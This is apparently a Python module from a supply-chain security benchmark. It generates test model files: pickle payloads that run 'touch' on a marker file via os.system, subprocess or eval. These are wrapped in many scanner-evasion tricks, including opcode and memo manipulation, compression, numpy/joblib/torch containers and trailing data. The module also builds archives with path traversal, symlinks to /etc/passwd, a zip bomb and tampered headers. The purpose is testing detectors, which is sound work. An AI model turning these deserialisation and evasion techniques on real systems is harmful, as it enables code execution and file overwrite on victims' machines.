"""Harmless malicious files: every gadget once, and one gadget in every framing, compression and archive trick."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import NamedTuple

from bartizan.bench.supplychain.assembler import Raw, blob, built, call, made, name, text, value, whole
from bartizan.bench.supplychain.gadgets import gadgets

Build = Callable[[str], bytes]
"""Path of the marker to the file's content."""


class Malicious(NamedTuple):
    """One class of attack."""

    id: str
    loader: str
    """How it is loaded (`victim`); empty for a file that is judged by its form alone."""
    file: str
    build: Build
    needs: str = ""


def corpus() -> Iterator[Malicious]:
    """All classes."""
    for gadget in gadgets():
        yield Malicious(f"gadget.{gadget.id}", "pickle", "model.pkl", _whole(gadget.body), gadget.needs)
    yield from _opcodes()
    yield from _framings()
    yield from _archives()
    yield from _forms()


def _whole(body: Build) -> Build:
    return lambda marker: whole(body(marker))


def _attack(marker: str, protocol: int = 4) -> Raw:
    return call("os", "system", (f"touch {marker}",), protocol)


def _opcodes() -> Iterator[Malicious]:
    def of(identifier: str, build: Build, loader: str = "pickle") -> Malicious:
        return Malicious(f"opcode.{identifier}", loader, "model.pkl", build)

    for protocol in range(6):
        yield of(f"protocol{protocol}", lambda m, p=protocol: whole(_attack(m, p), p))  # type: ignore[misc]
    yield of("framed", lambda m: whole(_attack(m), framed=True))
    yield of("python_unpickler", lambda m: whole(_attack(m), framed=True), "python")
    yield of("inst", lambda m: b"(" + text(f"touch {m}", 0) + b"ios\nsystem\n.")
    yield of("obj", lambda m: b"(cos\nsystem\n" + text(f"touch {m}", 0) + b"o.")
    yield of("newobj", lambda m: b"\x80\x02cio\nFileIO\n" + value((m, "w"), 2) + b"\x81" + b"0" + _attack(m, 2) + b".")
    yield of(
        "newobj_ex",
        lambda m: whole(name("subprocess", "Popen") + value((["touch", m],)) + b"}\x92" + b"0" + _attack(m)),
    )
    yield of("python2_builtin", lambda m: b"c__builtin__\neval\n" + value((f"open({m!r},'w')",), 0) + b"R.")
    yield of("python2_commands", lambda m: b"ccommands\ngetoutput\n" + value((f"touch {m}",), 0) + b"R.")
    yield of(
        "memo_names",
        lambda m: (
            b"\x80\x04"
            + text("os")
            + b"\x94"
            + text("system")
            + b"\x940"
            + b"0h\0h\1\x93"
            + value((f"touch {m}",))
            + b"R."
        ),
    )
    yield of(
        "memo_overwritten",
        lambda m: (
            b"\x80\x04"
            + text("math")
            + b"q\x000"
            + text("os")
            + b"q\x000h\x00"
            + text("system")
            + b"\x93"
            + value((f"touch {m}",))
            + b"R."
        ),
    )
    yield of(
        "memo_far",
        lambda m: (
            b"\x80\x04"
            + text("os")
            + b"r\xff\xff\x0f\x000"
            + b"j\xff\xff\x0f\x00"
            + text("system")
            + b"\x93"
            + value((f"touch {m}",))
            + b"R."
        ),
    )
    yield of("put_get_lines", lambda m: b"cos\nsystem\np99\n0g99\n" + value((f"touch {m}",), 0) + b"R.")
    yield of("dup", lambda m: b"\x80\x04" + name("os", "system") + b"20" + value((f"touch {m}",)) + b"R.")
    yield of("pop_mark", lambda m: b"\x80\x04(NNN1" + _attack(m) + b".")
    yield of("mark_pop", lambda m: b"\x80\x04((0" + b"0" + _attack(m) + b".")
    yield of(
        "long_int_name",
        lambda m: (
            b"\x80\x04X"
            + struct.pack("<I", 2)
            + b"os\x8d"
            + struct.pack("<Q", 6)
            + b"system\x93"
            + value((f"touch {m}",))
            + b"R."
        ),
    )
    yield of(
        "string_names",
        lambda m: b"\x80\x04S'os'\nT" + struct.pack("<I", 6) + b"system\x93" + value((f"touch {m}",)) + b"R.",
    )
    yield of("escaped_names", lambda m: b"\x80\x04S'\\x6fs'\nV\\u0073ystem\n\x93" + value((f"touch {m}",)) + b"R.")
    yield of(
        "protocol_changed", lambda m: b"\x80\x04\x80\x02c__builtin__\neval\n" + value((f"open({m!r},'w')",), 0) + b"R."
    )
    yield of("protocol_late", lambda m: b"N0\x80\x04" + _attack(m) + b".")
    yield of("broken_after", lambda m: b"\x80\x04" + _attack(m) + b"\xff\xff")
    yield of("no_stop", lambda m: b"\x80\x04" + _attack(m))
    yield of("cut_argument", lambda m: b"\x80\x04" + _attack(m) + b"X\xff\xff\xff\x7f")
    yield of("in_dict", lambda m: whole(value({"weights": _attack(m), "bias": 1})))
    yield of("under_memo", lambda m: whole(value([0] * 2000) + b"\x940" + _attack(m)))
    yield of("second_pickle", lambda m: whole(value([1, 2])) + whole(_attack(m)), "rows")
    yield of("tenth_pickle", lambda m: whole(value([1])) * 9 + whole(_attack(m)), "rows")
    yield of("large_before", lambda m: whole(blob(bytes(3 << 20)) + b"0" + _attack(m)))
    yield of("many_opcodes", lambda m: whole(b"N0" * 50_000 + _attack(m)))


def _framings() -> Iterator[Malicious]:
    def of(identifier: str, loader: str, file: str, build: Build, needs: str = "") -> Malicious:
        return Malicious(f"framing.{identifier}", loader, file, build, needs)

    packers: tuple[tuple[str, Callable[[bytes], bytes], str], ...] = (
        ("zlib", zlib.compress, ""), ("gzip", gzip.compress, ""), ("bz2", bz2.compress, ""),
        ("xz", lambda data: lzma.compress(data, lzma.FORMAT_XZ), ""),
        ("lzma", lambda data: lzma.compress(data, lzma.FORMAT_ALONE), ""),
        ("lz4", lz4_frame, "lz4"),
    )  # fmt: skip
    for kind, pack, needs in packers:
        yield of(f"joblib.{kind}", "joblib", "model.joblib", lambda m, p=pack: p(whole(_attack(m))), needs or "joblib")  # type: ignore[misc]
    yield of("joblib.plain", "joblib", "model.joblib", lambda m: whole(_attack(m)), "joblib")
    yield of("joblib.level9", "joblib", "model.bin", lambda m: zlib.compress(whole(_attack(m)), 9), "joblib")
    yield of(
        "joblib.cut", "joblib", "model.gz", lambda m: gzip.compress(whole(_attack(m)) + bytes(100_000))[:-8], "joblib"
    )
    yield of("joblib.array", "joblib", "model.joblib", lambda m: _joblib_array(m, b"\x80\x04N." + b"\0" * 12), "joblib")
    yield of(
        "joblib.array_hides",
        "joblib",
        "model.joblib",
        lambda m: _joblib_array(m, b"N." + b"\x8e" + bytes(13)),
        "joblib",
    )
    yield of("joblib.object_array", "joblib", "model.joblib", _joblib_objects, "joblib")
    for size in (1, 2):
        yield of(f"npy.version{size}", "numpy", "array.npy", lambda m, s=size: _npy(m, s), "numpy")  # type: ignore[misc]
    yield of("npz", "numpy", "arrays.npz", lambda m: _zip({"a.npy": _npy(m, 1)}), "numpy")
    yield of(
        "npz.deflated", "numpy", "arrays.npz", lambda m: _zip({"a.npy": _npy(m, 1)}, zipfile.ZIP_DEFLATED), "numpy"
    )
    yield of("pandas.gzip", "pandas", "frame.pkl.gz", lambda m: gzip.compress(whole(_attack(m))), "pandas")
    yield of("pandas.zip", "pandas", "frame.pkl.zip", lambda m: _zip({"frame.pkl": whole(_attack(m))}), "pandas")
    yield of("pandas.tar", "pandas", "frame.pkl.tar", lambda m: _tar({"frame.pkl": whole(_attack(m))}), "pandas")
    yield of(
        "pandas.tar.xz",
        "pandas",
        "frame.pkl.tar.xz",
        lambda m: lzma.compress(_tar({"frame.pkl": whole(_attack(m))})),
        "pandas",
    )
    for ending in (".txt", ".json", ".safetensors", ".jpg", ""):
        yield of(f"extension{ending or '.none'}", "pickle", f"model{ending}", lambda m: whole(_attack(m)))


def _archives() -> Iterator[Malicious]:
    def of(identifier: str, file: str, build: Build, loader: str = "torch") -> Malicious:
        return Malicious(f"archive.{identifier}", loader, file, build, "torch" if loader == "torch" else "")

    good = whole(value({"a": 1}), 2)

    def torch(pickle: bytes, **more: bytes) -> bytes:
        return _zip({"m/data.pkl": pickle, "m/byteorder": b"little", "m/version": b"3\n", **more})

    yield of("torch", "model.pt", lambda m: torch(whole(_attack(m, 2), 2)))
    yield of("torch.bin", "pytorch_model.bin", lambda m: torch(whole(_attack(m, 2), 2)))
    yield of("torch.legacy", "model.pth", _torch_legacy)
    yield of(
        "torch.duplicate_first",
        "model.pt",
        lambda m: _zip_pairs([("m/data.pkl", whole(_attack(m, 2), 2)), ("m/data.pkl", good), ("m/version", b"3\n")]),
    )
    yield of("torch.crc", "model.pt", lambda m: _wrong_crc(torch(whole(_attack(m, 2), 2))))
    yield of("pickle_then_zip", "model.pkl", lambda m: whole(_attack(m)) + torch(good), "pickle")
    yield of("pickle_in_comment", "model.pkl", lambda m: whole(_attack(m)) + b"PK\5\6" + bytes(18), "pickle")
    yield of(
        "pickle_then_safetensors", "model.pkl", lambda m: whole(_attack(m)) + struct.pack("<Q", 2) + b"{}", "pickle"
    )
    yield of("torch.tar", "model.pt", _torch_tar)
    yield of(
        "torch.nested_storage",
        "model.pt",
        lambda m: torch(whole(call("torch.storage", "_load_from_bytes", (torch(whole(_attack(m, 2), 2)),), 3), 3)),
    )


def _forms() -> Iterator[Malicious]:
    """Judged by their form: what readers see differently, or what unpacking would do."""

    def of(identifier: str, file: str, build: Callable[[], bytes]) -> Malicious:
        return Malicious(f"form.{identifier}", "", file, lambda _: build())

    good = whole(value({"a": 1}), 2)
    parts = [("m/data.pkl", good), ("m/byteorder", b"little"), ("m/version", b"3\n")]
    plain = _zip_pairs(parts)
    yield of("duplicate", "model.pt", lambda: _zip_pairs([*parts, parts[0]]))
    yield of("case_folding", "model.pt", lambda: _zip_pairs([*parts, ("m/DATA.pkl", good)]))
    yield of("prefix", "model.pt", lambda: b"MZ" + bytes(100) + plain)
    yield of("trailing", "model.pt", lambda: plain + b"#!/bin/sh\ntrue\n")
    yield of("two_archives", "model.pt", lambda: plain + plain)
    yield of("encrypted", "model.pt", lambda: _flagged(plain, 1))
    yield of("name_mismatch", "model.pt", lambda: plain.replace(b"m/data.pkl", b"m/evil.pkl", 1))
    yield of("cut_directory", "model.pt", lambda: plain[:-60])
    yield of("no_directory", "model.pt", lambda: plain[: plain.index(b"PK\1\2")])
    yield of("absolute_path", "model.zip", lambda: _zip({"/etc/cron.d/x": b"x"}))
    yield of("parent_path", "model.zip", lambda: _zip({"../../x.py": b"x"}))
    yield of("windows_path", "model.zip", lambda: _zip({"..\\..\\x.py": b"x"}))
    yield of("symlink", "model.zip", lambda: _zip_link())
    yield of("bomb", "model.npz", lambda: _zip({"a.npy": bytes(60 << 20)}, zipfile.ZIP_DEFLATED))
    yield of("tar_symlink", "model.nemo", lambda: _tar({"a": b"x"}, link="/etc/passwd"))
    yield of("tar_parent", "model.nemo", lambda: _tar({"../a": b"x"}))
    yield of("tar_absolute", "model.nemo", lambda: _tar({"/a": b"x"}))
    yield of("tar_duplicate", "model.nemo", lambda: _tar({"a": b"x"})[:1024] + _tar({"a": b"y"}))
    yield of("wrong_sizes", "model.pt", lambda: _other_size(plain))
    yield of("extension_code", "model.pkl", lambda: b"\x80\x02\x82\x05.")
    yield of("persistent_id", "model.pkl", lambda: b"\x80\x02" + text("x", 2) + b"Q.")
    yield of("dtype_flags", "model.pkl", lambda: whole(_object_dtype()))
    yield of("unknown", "model.bin", lambda: bytes(range(1, 255)) * 5)
    yield of("empty", "model.pkl", lambda: b"")


def _object_dtype() -> bytes:
    kind = built(call("numpy", "dtype", ("O8", False, True)), (3, "|", None, None, None, -1, -1, 0))
    array = call("numpy._core.multiarray", "_reconstruct", (Raw(name("numpy", "ndarray")), (0,), b"b"))
    return built(array, (1, (1,), kind, False, b"\x41" * 8))


def lz4_frame(data: bytes) -> bytes:
    """An LZ4 frame of stored blocks (its header checksum is what xxHash32 gives for these flags)."""
    blocks = b"".join(
        struct.pack("<I", len(data[at : at + 65_536]) | 1 << 31) + data[at : at + 65_536]
        for at in range(0, len(data), 65_536)
    )
    return b"\x04\x22\x4d\x18\x60\x40\x82" + blocks + bytes(4)


def _joblib_array(marker: str, content: bytes) -> bytes:
    """An inline array whose bytes end the stream for those who read them as opcodes; the attack comes after it."""
    kind = built(call("numpy", "dtype", ("u1", False, True)), (3, "|", None, None, None, -1, -1, 0))
    wrapper = built(
        made("joblib.numpy_pickle", "NumpyArrayWrapper"),
        {"subclass": Raw(name("numpy", "ndarray")), "shape": (len(content),), "order": "C", "dtype": kind,
         "allow_mmap": False, "numpy_array_alignment_bytes": None},
    )  # fmt: skip
    return b"\x80\x04" + wrapper + content + b"0" + _attack(marker) + b"."


def _joblib_objects(marker: str) -> bytes:
    kind = built(call("numpy", "dtype", ("O8", False, True)), (3, "|", None, None, None, -1, -1, 63))
    wrapper = built(
        made("joblib.numpy_pickle", "NumpyArrayWrapper"),
        {"subclass": Raw(name("numpy", "ndarray")), "shape": (1,), "order": "C", "dtype": kind, "allow_mmap": False},
    )
    return b"\x80\x04" + wrapper + whole(_attack(marker)) + b"."


def _npy(marker: str, version: int) -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    size = struct.pack("<H" if version == 1 else "<I", 118)
    return b"\x93NUMPY" + bytes([version, 0]) + size + header.ljust(117) + b"\n" + whole(_attack(marker))


def _torch_legacy(marker: str) -> bytes:
    magic = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
    system = whole(
        value({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2), 2
    )
    return magic + whole(value(1001, 2), 2) + system + whole(_attack(marker, 2), 2) + whole(value([], 2), 2)


def _torch_tar(marker: str) -> bytes:
    return _tar(
        {
            "sys_info": whole(value({}, 2), 2),
            "pickle": whole(_attack(marker, 2), 2),
            "storages": whole(value(0, 2), 2),
            "tensors": whole(value(0, 2), 2),
        }
    )


def _zip(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    return _zip_pairs(list(members.items()), method)


def _zip_pairs(members: list[tuple[str, bytes]], method: int = zipfile.ZIP_STORED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for path, content in members:
            archive.writestr(_info(path, method), content)
    return out.getvalue()


class _Info(zipfile.ZipInfo):
    """An entry whose duplicates are not warned of."""


def _info(path: str, method: int) -> zipfile.ZipInfo:
    info = _Info("x", (2026, 1, 1, 0, 0, 0))
    info.filename, info.compress_type = path, method
    return info


def _zip_link() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        info = _info("weights.bin", zipfile.ZIP_STORED)
        info.create_system, info.external_attr = 3, 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return out.getvalue()


def _tar(members: dict[str, bytes], link: str = "") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for path, content in members.items():
            info = tarfile.TarInfo(path)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
        if link:
            info = tarfile.TarInfo("weights.bin")
            info.type, info.linkname = tarfile.SYMTYPE, link
            archive.addfile(info)
    return out.getvalue()


def _wrong_crc(archive: bytes) -> bytes:
    at = archive.index(b"PK\1\2")
    return archive[: at + 16] + b"\1\2\3\4" + archive[at + 20 :]


def _flagged(archive: bytes, flag: int) -> bytes:
    at = archive.index(b"PK\1\2")
    return archive[:6] + bytes([flag]) + archive[7 : at + 8] + bytes([flag]) + archive[at + 9 :]


def _other_size(archive: bytes) -> bytes:
    at = archive.index(b"PK\1\2")
    return archive[: at + 20] + struct.pack("<II", 5, 5) + archive[at + 28 :]


def write(folder: Path, marker: str, attack: Malicious) -> Path:
    """The file of one attack in a folder of its own."""
    place = folder / attack.id.replace("/", "_")
    place.mkdir(parents=True, exist_ok=True)
    path = place / attack.file
    path.write_bytes(attack.build(marker))
    return path
